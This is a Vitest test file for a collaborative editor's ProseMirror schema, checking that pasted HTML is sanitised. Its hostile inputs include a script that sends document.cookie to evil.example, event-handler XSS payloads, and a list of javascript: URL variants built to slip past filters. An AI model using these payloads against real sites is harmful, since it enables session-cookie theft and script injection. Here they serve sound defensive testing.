import { describe, expect, it } from "vitest";
import { parse as parseHtml } from "html-parse-stringify";
import { DOMParser, type DOMOutputSpec, type Mark, type Node as PMNode } from "@tiptap/pm/model";
import { koersSchema } from "./extensions";

// Issue #8: pasted HTML with scripts, javascript: links or event attributes is stripped
// by the editor schema. No DOM implementation (happy-dom, jsdom) is installed, so these
// tests run the real ProseMirror DOMParser over the real schema on a minimal DOM built
// from a real HTML tokenizer (html-parse-stringify, already here through react-i18next).
// Each hostile case has a harmless twin that must survive, so a too-weak fake DOM (one
// that never matched a rule) cannot make a test pass by dropping everything.

// ---- a minimal DOM: only what ProseMirror's DOMParser and the schema's parse rules read ----

const fakeDocument = { createTextNode: (text: string) => new FakeText(text) };

abstract class FakeNode {
  parentNode: FakeElement | null = null;
  readonly ownerDocument = fakeDocument;
  get nextSibling(): FakeNode | null {
    const siblings = this.parentNode?.childNodes ?? [];
    return siblings[siblings.indexOf(this) + 1] ?? null;
  }
  get previousSibling(): FakeNode | null {
    const siblings = this.parentNode?.childNodes ?? [];
    return siblings[siblings.indexOf(this) - 1] ?? null;
  }
}

class FakeText extends FakeNode {
  readonly nodeType = 3;
  readonly nodeName = "#text";
  constructor(public nodeValue: string) {
    super();
  }
  get textContent() {
    return this.nodeValue;
  }
}

class FakeElement extends FakeNode {
  readonly nodeType = 1;
  readonly namespaceURI = "http://www.w3.org/1999/xhtml";
  readonly nodeName: string;
  readonly childNodes: FakeNode[] = [];
  // An empty declaration: no style rule matches, and `style.fontWeight !== "normal"` holds.
  readonly style = { length: 0, whiteSpace: "", fontWeight: "", fontStyle: "", textDecoration: "" };
  readonly classList: string[];
  constructor(
    readonly localName: string,
    private readonly attrs: Record<string, string>,
  ) {
    super();
    this.nodeName = localName.toUpperCase();
    this.classList = (attrs.class ?? "").split(/\s+/).filter(Boolean);
  }
  get tagName() {
    return this.nodeName;
  }
  get firstChild() {
    return this.childNodes[0] ?? null;
  }
  get firstElementChild() {
    return (this.childNodes.find((n) => n instanceof FakeElement) as FakeElement | undefined) ?? null;
  }
  get textContent(): string {
    return this.childNodes.map((n) => (n as FakeText | FakeElement).textContent).join("");
  }
  getAttribute(name: string) {
    return Object.hasOwn(this.attrs, name) ? this.attrs[name]! : null;
  }
  hasAttribute(name: string) {
    return Object.hasOwn(this.attrs, name);
  }
  querySelector() {
    return null;
  }
  contains(other: FakeNode): boolean {
    for (let n: FakeNode | null = other; n; n = n.parentNode) if (n === this) return true;
    return false;
  }
  /** Selectors of the forms the schema uses: `tag`, `tag[attr]`, `tag[attr="value"]`. */
  matches(selector: string): boolean {
    const m = /^([a-z0-9]+)?((?:\[[^\]]+\])*)$/i.exec(selector);
    if (!m) throw new Error(`fake DOM cannot match selector ${selector}`);
    if (m[1] && m[1].toLowerCase() !== this.localName) return false;
    for (const [, name, value] of m[2]!.matchAll(/\[([^=\]]+)(?:="([^"]*)")?\]/g)) {
      if (!this.hasAttribute(name!)) return false;
      if (value !== undefined && this.getAttribute(name!) !== value) return false;
    }
    return true;
  }
  append(child: FakeNode) {
    child.parentNode = this;
    this.childNodes.push(child);
  }
}

type HtmlNode = ReturnType<typeof parseHtml>[number];

function toFake(nodes: HtmlNode[], parent: FakeElement): FakeElement {
  for (const node of nodes) {
    if (node.type === "text") parent.append(new FakeText(node.content));
    else if (node.type === "tag") {
      const attrs = Object.fromEntries(Object.entries(node.attrs).map(([k, v]) => [k, v ?? ""]));
      parent.append(toFake(node.children, new FakeElement(node.name, attrs)));
    }
  }
  return parent;
}

/** Parses pasted HTML the way ProseMirror does on paste (parseSlice), through the shared schema. */
function paste(html: string): PMNode {
  const body = toFake(parseHtml(html), new FakeElement("body", {}));
  const slice = DOMParser.fromSchema(koersSchema()).parseSlice(body as unknown as HTMLElement, { preserveWhitespace: true });
  const doc = koersSchema().topNodeType.create(null, slice.content);
  doc.check();
  return doc;
}

/** Every element the document would render, with its attributes (from the schema's toDOM, no DOM needed). */
function rendered(doc: PMNode): { tag: string; attrs: Record<string, unknown> }[] {
  const out: { tag: string; attrs: Record<string, unknown> }[] = [];
  const collect = (spec: DOMOutputSpec) => {
    if (!Array.isArray(spec)) return;
    const [tag, maybeAttrs, ...rest] = spec as unknown[];
    const hasAttrs = maybeAttrs && typeof maybeAttrs === "object" && !Array.isArray(maybeAttrs);
    out.push({ tag: String(tag), attrs: hasAttrs ? (maybeAttrs as Record<string, unknown>) : {} });
    for (const child of hasAttrs ? rest : [maybeAttrs, ...rest]) if (Array.isArray(child)) collect(child as unknown as DOMOutputSpec);
  };
  const renderMark = (mark: Mark) => mark.type.spec.toDOM && collect(mark.type.spec.toDOM(mark, true));
  doc.descendants((node) => {
    if (node.type.spec.toDOM) collect(node.type.spec.toDOM(node));
    node.marks.forEach(renderMark);
  });
  return out;
}

const links = (doc: PMNode) => {
  const found: Record<string, unknown>[] = [];
  doc.descendants((n) => {
    for (const m of n.marks) if (m.type.name === "link") found.push(m.attrs);
  });
  return found;
};

const blocks = (doc: PMNode, type: string) => {
  const found: PMNode[] = [];
  doc.descendants((n) => {
    if (n.type.name === type) found.push(n);
  });
  return found;
};

// ---- the tests ----

describe("pasted HTML is stripped by the editor schema", () => {
  it("keeps ordinary formatting (the harness matches the schema's rules)", () => {
    const doc = paste(`<p>Een <strong>vet</strong> en <em>schuin</em> woord</p><ul><li><p>punt</p></li></ul><h2>Kop</h2>`);
    expect(doc.textContent).toBe("Een vet en schuin woordpuntKop");
    expect(blocks(doc, "bulletList")).toHaveLength(1);
    expect(blocks(doc, "heading")[0]!.attrs.level).toBe(2);
    const bold = blocks(doc, "text").find((t) => t.text === "vet")!;
    expect(bold.marks.map((m) => m.type.name)).toEqual(["bold"]);
  });

  it("drops script, style and other executable elements with their content", () => {
    const doc = paste(
      `<p>voor</p><script>fetch("https://evil.example/?" + document.cookie)</script>` +
        `<p>mid<script>alert(1)</script>den</p><style>body{display:none}</style>` +
        `<iframe src="https://evil.example"></iframe><object data="x.swf"></object>` +
        `<img src="x" onerror="alert(1)"><svg onload="alert(1)"><script>alert(2)</script></svg><p>na</p>`,
    );
    expect(doc.textContent).toBe("voormiddenna");
    const json = JSON.stringify(doc.toJSON());
    expect(json).not.toMatch(/alert|cookie|script|iframe|onerror|onload|display:none/i);
    const tags = rendered(doc).map((r) => r.tag);
    expect(tags.filter((t) => /script|iframe|object|embed|img|svg|style/i.test(t))).toEqual([]);
  });

  it("drops on* event attributes everywhere", () => {
    const doc = paste(
      `<p onclick="alert(1)" onmouseover="alert(2)">tekst <b onmouseenter="alert(3)">vet</b> ` +
        `<a href="https://nhg.org" onclick="alert(4)">NHG</a></p>` +
        `<div data-agreement="" data-owner="samen" onfocus="alert(5)" autofocus="">Afspraak</div>` +
        `<div data-agenda-item="" onanimationstart="alert(6)">Punt</div>`,
    );
    expect(doc.textContent).toBe("tekst vet NHGAfspraakPunt");
    expect(links(doc)).toHaveLength(1); // the harmless twin survives
    expect(blocks(doc, "agreement")[0]!.attrs.owner).toBe("samen");
    expect(JSON.stringify(doc.toJSON())).not.toMatch(/"on[a-z]+"|alert|autofocus/i);
    for (const { attrs } of rendered(doc)) expect(Object.keys(attrs).filter((k) => /^on/i.test(k))).toEqual([]);
  });

  it("keeps http(s) and mailto links", () => {
    const doc = paste(`<p><a href="https://richtlijnen.nhg.org">NHG</a> <a href="mailto:opleider@praktijk.nl">mail</a></p>`);
    expect(links(doc).map((l) => l.href)).toEqual(["https://richtlijnen.nhg.org", "mailto:opleider@praktijk.nl"]);
  });

  it.each([
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "\u0001javascript:alert(1)", // browsers strip leading C0 controls from URLs
    "java\tscript:alert(1)", // and tabs and newlines inside them (from &#9; / &#10;)
    "java\nscript:alert(1)",
    "javascript\u0000:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
  ])("drops a link to %j but keeps its text", (href) => {
    const doc = paste(`<p>klik <a href="${href.replace(/"/g, "&quot;")}">hier</a></p>`);
    expect(doc.textContent).toBe("klik hier");
    expect(links(doc)).toEqual([]);
  });

  it("renders no javascript: href even when a link mark carries one (e.g. written into the Y.Doc directly)", () => {
    const schema = koersSchema();
    const doc = schema.nodeFromJSON({
      type: "doc",
      content: [
        {
          type: "paragraph",
          content: [{ type: "text", text: "x", marks: [{ type: "link", attrs: { href: "javascript:alert(1)" } }] }],
        },
      ],
    });
    const a = rendered(doc).find((r) => r.tag === "a")!;
    expect(String(a.attrs.href)).not.toMatch(/javascript/i);
  });

  it("does not let pasted links undo noopener or add their own target and classes", () => {
    const doc = paste(
      `<p><a href="https://evil.example" target="_blank" rel="opener" class="koers-button sr-only">log opnieuw in</a></p>`,
    );
    const [link] = links(doc);
    expect(link).toBeDefined();
    expect(link!.rel).toBe("noopener noreferrer nofollow");
    expect(link!.target).toBe("_blank");
    expect(link!.class).toBeNull();
    // …and a mark forged in the Y.Doc renders safely too.
    const forged = koersSchema().nodeFromJSON({
      type: "doc",
      content: [
        {
          type: "paragraph",
          content: [
            { type: "text", text: "x", marks: [{ type: "link", attrs: { href: "https://evil.example", rel: "opener", target: "_top", class: "x" } }] },
          ],
        },
      ],
    });
    const a = rendered(forged).find((r) => r.tag === "a")!;
    expect(a.attrs).toMatchObject({ rel: "noopener noreferrer nofollow", target: "_blank" });
    expect(a.attrs.class ?? null).toBeNull(); // ProseMirror leaves null attributes out of the DOM
  });

  it("cannot smuggle out-of-range values into agreement attributes", () => {
    const doc = paste(
      `<div data-agreement="" data-id="a1" data-owner="admin" data-status="&lt;script&gt;" data-follow-up="2026-13-45">Eén</div>` +
        `<div data-agreement="" data-owner="opleider" data-status="afgerond" data-follow-up="2026-02-30">Twee</div>` +
        `<div data-agreement="" data-owner="samen" data-status="vervallen" data-follow-up="2026-12-07">Drie</div>`,
    );
    const [one, two, three] = blocks(doc, "agreement").map((n) => n.attrs);
    expect(one).toMatchObject({ id: "a1", owner: "aios", status: "open", followUpDate: null });
    expect(two).toMatchObject({ owner: "opleider", status: "afgerond", followUpDate: null }); // 30 February does not exist
    expect(three).toMatchObject({ owner: "samen", status: "vervallen", followUpDate: "2026-12-07" });
  });

  it("cannot smuggle out-of-range values into agenda item attributes", () => {
    const doc = paste(
      `<div data-agenda-item="" data-timebox="99999" data-proposed-by="root" data-done="yes">Eén</div>` +
        `<div data-agenda-item="" data-timebox="-5" data-proposed-by="opleider" data-done="true">Twee</div>` +
        `<div data-agenda-item="" data-timebox="15" data-proposed-by="aios">Drie</div>`,
    );
    const [one, two, three] = blocks(doc, "agendaItem").map((n) => n.attrs);
    expect(one).toMatchObject({ timeboxMinutes: null, proposedBy: "aios", done: false });
    expect(two).toMatchObject({ timeboxMinutes: null, proposedBy: "opleider", done: true });
    expect(three).toMatchObject({ timeboxMinutes: 15, proposedBy: "aios", done: false });
  });
});
